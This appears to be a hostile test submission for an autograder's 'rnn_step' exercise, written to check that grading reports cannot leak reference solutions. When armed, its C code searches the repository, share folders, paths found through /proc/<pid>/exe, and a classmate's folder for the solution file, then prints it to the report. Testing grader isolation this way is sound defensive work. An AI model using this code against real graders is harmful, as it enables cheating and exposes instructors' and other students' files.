/* An attack on the boundary, armed by tests/grade_hostile.sh: at run time it reads a
 * reference solution wherever the grader keeps one (the repository, a copy beside the class,
 * the installed share folder, beside its own program or its parent's; or a classmate's
 * file, which is one) and prints it, so that
 * the report hands it to the student.
 * exercise: rnn_step
 * expect: wrong values
 * must not: show any line of the solution in a report
 */
/* @ARM@ */
#define _GNU_SOURCE
#include "gradlab_exercise.h"

#include <libgen.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifdef GRADLAB_ATTACK_ARMED
static void show(void)
{
	static int done;
	if (done++)
		return;
	char dirs[16][4096];
	int n = 0;
	const char *fixed[] = { "@REPO_SOL@", "@WORK_SOL@", "@SHARE_SOL@",
				"/usr/local/share/gradlab/solutions", "/usr/share/gradlab/solutions",
				"@CLASSMATE_DIR@" /* a classmate's folder */ };
	for (size_t i = 0; i < sizeof fixed / sizeof fixed[0]; i++)
		snprintf(dirs[n++], sizeof dirs[0], "%s", fixed[i]);
	char link[64], exe[4096];
	pid_t pids[2] = { getpid(), getppid() };
	for (int p = 0; p < 2; p++) {
		snprintf(link, sizeof link, "/proc/%d/exe", (int)pids[p]);
		ssize_t k = readlink(link, exe, sizeof exe - 1);
		if (k > 0) {
			exe[k] = '\0';
			char *d = dirname(exe);
			snprintf(dirs[n++], sizeof dirs[0], "%.4000s/../share/gradlab/solutions", d);
			snprintf(dirs[n++], sizeof dirs[0], "%.4000s/../solutions", d);
		}
	}
	for (int i = 0; i < n; i++) {
		char path[4200], line[1024];
		snprintf(path, sizeof path, "%.4000s/04_rnn_step.c", dirs[i]);
		FILE *f = fopen(path, "r");
		if (!f)
			continue;
		printf("attack: read %s\n", path);
		while (fgets(line, sizeof line, f))
			fputs(line, stdout);
		fclose(f);
		break;
	}
	fflush(stdout);
}
#endif

void rnn_step_forward(double *h_next, const double *x, const double *h_prev, const double *W_ih,
		      const double *W_hh, const double *b_ih, const double *b_hh, int B, int I,
		      int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	show();
#endif
}

void rnn_step_backward(double *dx, double *dh_prev, double *dW_ih, double *dW_hh, double *db_ih,
		       double *db_hh, const double *dh_next, const double *x,
		       const double *h_prev, const double *h_next, const double *W_ih,
		       const double *W_hh, int B, int I, int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	show();
#endif
}
